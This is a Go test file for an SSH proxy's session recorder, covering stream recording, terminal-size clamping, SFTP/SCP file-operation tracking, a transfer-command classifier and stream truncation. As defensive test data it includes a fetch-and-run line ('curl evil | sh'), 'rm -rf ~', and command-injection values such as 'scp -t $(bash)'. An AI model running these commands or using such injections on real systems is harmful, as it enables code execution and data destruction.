package sshproxy

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/pamd/pamd/protocol/sftp"
	"github.com/pamd/pamd/protocol/tunnel"
)

// waitExit waits until the recorder holds the channel's exit.
func waitExit(t *testing.T, rec *recorder) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		for _, r := range rec.all() {
			if r.Type == "exit" {
				time.Sleep(20 * time.Millisecond) // the last bytes are recorded before the channel closes
				return
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("no exit recorded: %+v", rec.all())
}

// run runs command (or a shell when command is "") without a terminal,
// with stdin, and returns stdout and stderr.
func run(t *testing.T, c *ssh.Client, command string, stdin []byte) (string, string) {
	t.Helper()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var out, errOut bytes.Buffer
	s.Stdin, s.Stdout, s.Stderr = bytes.NewReader(stdin), &out, &errOut
	if command == "" {
		err = s.Shell()
	} else {
		err = s.Start(command)
	}
	if err != nil {
		t.Fatal(err)
	}
	s.Wait()
	return out.String(), errOut.String()
}

// Without a terminal, stdin, stdout and stderr are all recorded, each apart.
func TestRecordsChannelsWithoutTerminal(t *testing.T) {
	for _, tc := range []struct{ name, command string }{
		{"exec", "out hello-out\nerr hello-err\ncat\nexit 3"},
		{"shell", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tt := startTarget(t, targetOpts{})
			rec := &recorder{}
			c := proxied(t, tt.descriptor(t), rec)
			out, errOut := run(t, c, tc.command, []byte("typed-input\n"))
			if !strings.Contains(out, "typed-input") {
				t.Fatalf("relay: stdout %q stderr %q", out, errOut)
			}
			waitExit(t, rec)
			if got := rec.joined("i"); got != "typed-input\n" {
				t.Errorf("input recorded as %q", got)
			}
			if got := rec.joined("o"); !strings.Contains(got, "typed-input\n") || (tc.command != "" && !strings.HasPrefix(got, "hello-out\n")) {
				t.Errorf("output recorded as %q", got)
			}
			if tc.command != "" {
				if got := rec.joined("e"); got != "hello-err\n" {
					t.Errorf("stderr recorded as %q", got)
				}
			}
			for _, r := range rec.all() {
				if r.SessionID != "s-test" || r.ConnectionID != "c-test" || r.Time.IsZero() {
					t.Fatalf("record without its session, connection or time: %+v", r)
				}
			}
		})
	}
}

// A client claims any uint32 as its terminal size; what is recorded is
// bounded, so a replay cannot be asked for a terminal of 2^31 columns.
func TestRecordedWindowSizesAreClamped(t *testing.T) {
	tt := startTarget(t, targetOpts{})
	rec := &recorder{}
	c := proxied(t, tt.descriptor(t), rec)
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.RequestPty("xterm", 1<<31-1, 0, nil); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	if err := s.Start("cat"); err != nil {
		t.Fatal(err)
	}
	s.WindowChange(0, 4_000_000_000) // rows, columns (sent as uint32)
	s.WindowChange(40, 120)
	time.Sleep(100 * time.Millisecond)
	in.Close()
	s.Wait()
	waitExit(t, rec)
	var sizes [][2]int
	for _, r := range rec.all() {
		if r.Type == "pty" || r.Type == "r" {
			sizes = append(sizes, [2]int{r.Width, r.Height})
		}
	}
	want := [][2]int{{1, 1000}, {1000, 1}, {120, 40}}
	if len(sizes) != 3 || sizes[0] != want[0] || sizes[1] != want[1] || sizes[2] != want[2] {
		t.Fatalf("recorded sizes %v, want %v", sizes, want)
	}
}

// sftpUpload uploads data to path over a session running command, as a
// client does: it waits for the handle before it writes.
func sftpUpload(t *testing.T, c *ssh.Client, command, path string, data []byte) {
	t.Helper()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	in, _ := s.StdinPipe()
	out, _ := s.StdoutPipe()
	if err := s.Start(command); err != nil {
		t.Fatal(err)
	}
	in.Write(sftpPacket(sftp.TypeInit, 3))
	in.Write(sftpPacket(sftp.TypeOpen, 1, path, uint32(sftp.FlagWrite|sftp.FlagCreate), uint32(0)))
	for i := 0; i < 2; i++ { // VERSION, HANDLE
		if _, err := sftp.ReadPacket(out); err != nil {
			t.Fatal(err)
		}
	}
	in.Write(sftpPacket(sftp.TypeWrite, 2, "h1", uint64(0), data))
	in.Write(sftpPacket(sftp.TypeClose, 3, "h1"))
	for i := 0; i < 2; i++ {
		if _, err := sftp.ReadPacket(out); err != nil {
			t.Fatal(err)
		}
	}
	in.Close()
	s.Wait()
}

// An exec'd sftp-server (instead of the sftp subsystem) has its file
// operations recorded like the subsystem's. Run as nothing but itself it is
// a trusted transfer and its bytes are file contents, not recorded; run any
// other way (sudo, a shell line) its bytes are recorded too.
func TestExecSFTPServerRecordsFileOperations(t *testing.T) {
	secret := bytes.Repeat([]byte("file-content-"), 100)
	for _, tc := range []struct {
		command string
		bytes   bool // the raw stream is recorded too
	}{
		{"/usr/lib/openssh/sftp-server", false},
		{"sudo /usr/lib/openssh/sftp-server", true},
	} {
		t.Run(tc.command, func(t *testing.T) {
			tt := startTarget(t, targetOpts{})
			rec := &recorder{}
			c := proxied(t, tt.descriptor(t), rec)
			sftpUpload(t, c, tc.command, "/tmp/uploaded", secret)
			waitExit(t, rec)
			var files []tunnel.Record
			for _, r := range rec.all() {
				if r.Type == "file" {
					files = append(files, r)
				}
			}
			if len(files) != 1 || files[0].Op != "upload" || files[0].Path != "/tmp/uploaded" || files[0].Size != int64(len(secret)) {
				t.Fatalf("file records %+v", files)
			}
			if raw := strings.Contains(rec.joined("i"), string(secret)); raw != tc.bytes {
				t.Fatalf("file contents recorded as input: %v, want %v", raw, tc.bytes)
			}
		})
	}
}

func TestTransferCommand(t *testing.T) {
	for cmd, want := range map[string]string{
		"scp -t /tmp/x":                               "scp",
		"scp -r -f /etc":                              "scp",
		"/usr/bin/scp -t .":                           "scp",
		"/usr/lib/openssh/sftp-server":                "sftp",
		"exec /usr/libexec/openssh/sftp-server":       "sftp",
		"/usr/lib/openssh/sftp-server -e -l INFO":     "sftp",
		"rsync --server -logDtpre.iLsfxCIvu . /tmp/x": "rsync",
		"scp -t /tmp/x; bash":                         "",
		"scp -t /tmp/x && bash":                       "",
		"scp -t $(bash)":                              "",
		"scp -t '/tmp/a b'":                           "",
		"scp -t /tmp/x\nbash":                         "",
		"./scp -t /tmp/x":                             "",
		"/home/me/sftp-server":                        "",
		"/usr/../home/me/sftp-server":                 "",
		"sudo /usr/lib/openssh/sftp-server":           "",
		"rsync --daemon --server .":                   "",
		"rsync --server --config=/home/me/c .":        "",
		"rsync -av x y":                               "",
		"FOO=1 scp -t /x":                             "",
		"bash":                                        "",
		"":                                            "",
	} {
		if got := transferCommand(cmd); got != want {
			t.Errorf("transferCommand(%q) = %q, want %q", cmd, got, want)
		}
	}
}

// A trusted transfer's stream that stops parsing is recorded from there
// on, both ways, with what was pending: nothing passes unrecorded.
func TestTrustedTransferFallsBackToBytes(t *testing.T) {
	t.Run("sftp", func(t *testing.T) {
		var recs []tunnel.Record
		tr := newSFTPTracker(func(r tunnel.Record) { recs = append(recs, r) }, func(r tunnel.Record) { recs = append(recs, r) })
		tr.feed(true, sftpPacket(sftp.TypeInit, 3))
		partial := sftpPacket(sftp.TypeOpen, 1, "/tmp/x", uint32(1), uint32(0))
		tr.feed(true, append(partial[:6:6], "\nid; curl evil | sh\n"...)) // a header claiming more, then a shell line
		tr.feed(false, []byte("\xff\xff\xff\xffboom"))                    // the target's stream breaks
		tr.feed(true, []byte("whoami\n"))
		tr.finish()
		var in, out string
		for _, r := range recs {
			switch r.Type {
			case "i":
				in += r.Data
			case "o":
				out += r.Data
			}
		}
		if !strings.Contains(in, "id; curl evil | sh\n") || !strings.HasSuffix(in, "whoami\n") || !strings.Contains(out, "boom") {
			t.Fatalf("after the break: input %q output %q", in, out)
		}
	})
	t.Run("scp", func(t *testing.T) {
		var recs []tunnel.Record
		add := func(r tunnel.Record) { recs = append(recs, r) }
		tr := newSCPTracker("scp -t /tmp", add, add)
		tr.feed(false, []byte{0})
		tr.feed(true, []byte("C0644 5 a.txt\nhello\x00"))
		tr.feed(false, []byte{0, 0})
		tr.feed(true, []byte("C0644 bad\nrm -rf ~\n"))
		tr.feed(false, []byte("\x01scp: error\n"))
		var in, out string
		var files int
		for _, r := range recs {
			switch r.Type {
			case "i":
				in += r.Data
			case "o":
				out += r.Data
			case "file":
				files++
			}
		}
		if files != 1 || strings.Contains(in, "hello") || !strings.Contains(in, "C0644 5 a.txt\n") || !strings.HasSuffix(in, "rm -rf ~\n") || out != "\x01scp: error\n" {
			t.Fatalf("files %d, input %q, output %q", files, in, out)
		}
	})
}

// FuzzTrackers feeds both trackers arbitrary streams, cut anywhere: they
// never panic, and with a raw callback every byte that is not file contents
// (for SCP) or not parsed (for SFTP) is recorded; what they hold is bounded.
func FuzzTrackers(f *testing.F) {
	f.Add([]byte("C0644 5 a.txt\nhello\x00E\n"), []byte{0, 0}, 3)
	f.Add(append(sftpPacket(sftp.TypeInit, 3), sftpPacket(sftp.TypeOpen, 1, "/x", uint32(2), uint32(0))...), sftpPacket(sftp.TypeHandle, 1, "h"), 7)
	f.Add([]byte("\xff\xff\xff\xffrest"), []byte("\x00\x00\x00\x02\x65"), 1)
	f.Fuzz(func(t *testing.T, in, out []byte, cut int) {
		cut = max(1, cut%64+1)
		var raw int
		add := func(r tunnel.Record) {
			if r.Type == "i" || r.Type == "o" {
				raw += len(r.Data)
			}
		}
		for _, tr := range []fileTracker{newSFTPTracker(add, add), newSCPTracker("scp -t /tmp", add, add), newSCPTracker("scp -f /tmp", add, add)} {
			raw = 0
			for i := 0; i < len(in) || i < len(out); i += cut {
				if i < len(in) {
					tr.feed(true, in[i:min(i+cut, len(in))])
				}
				if i < len(out) {
					tr.feed(false, out[i:min(i+cut, len(out))])
				}
			}
			tr.finish()
			if raw > len(in)+len(out) {
				t.Fatalf("%T recorded %d bytes of %d", tr, raw, len(in)+len(out))
			}
			if st, ok := tr.(*sftpTracker); ok && (len(st.buf[0]) > sftp.MaxPacket+4 || len(st.buf[1]) > sftp.MaxPacket+4) {
				t.Fatal("sftp tracker holds more than a packet")
			}
		}
	})
}

// A channel without a terminal that moves more than streamBudget bytes is
// recorded as its head, then its tail with the length and SHA-256 of the
// whole: a bulk transfer does not end up whole (and escaped) in the spool.
func TestBulkStreamsWithoutTerminalAreRecordedWithinBudget(t *testing.T) {
	tt := startTarget(t, targetOpts{})
	rec := &recorder{}
	c := proxied(t, tt.descriptor(t), rec)
	in := make([]byte, 3*streamBudget+12345)
	for i := range in {
		in[i] = byte('a' + i%26)
	}
	copy(in[len(in)-5:], "!END!")
	out, _ := run(t, c, "cat\nexit 0", in)
	if out != string(in) {
		t.Fatalf("relayed %d of %d bytes", len(out), len(in))
	}
	waitExit(t, rec)
	sum := sha256.Sum256(in)
	for _, stream := range []string{"i", "o"} {
		var head int
		var cut *tunnel.Record
		for _, r := range rec.all() {
			if r.Type != stream {
				continue
			}
			if r.Truncated != nil {
				r := r
				cut = &r
				continue
			}
			if cut != nil {
				t.Fatalf("%s: a record after the cut one", stream)
			}
			head += len(r.Data)
		}
		if head != streamBudget {
			t.Errorf("%s: %d bytes recorded in full, want %d", stream, head, streamBudget)
		}
		if cut == nil {
			t.Fatalf("%s: no record says the stream was cut", stream)
		}
		if cut.Truncated.Length != int64(len(in)) || cut.Truncated.SHA256 != hex.EncodeToString(sum[:]) {
			t.Errorf("%s: cut record says %d bytes, sha256 %s", stream, cut.Truncated.Length, cut.Truncated.SHA256)
		}
		if len(cut.Data) != streamTail || !strings.HasSuffix(cut.Data, "!END!") {
			t.Errorf("%s: tail of %d bytes ending %q", stream, len(cut.Data), cut.Data[max(0, len(cut.Data)-8):])
		}
	}
}
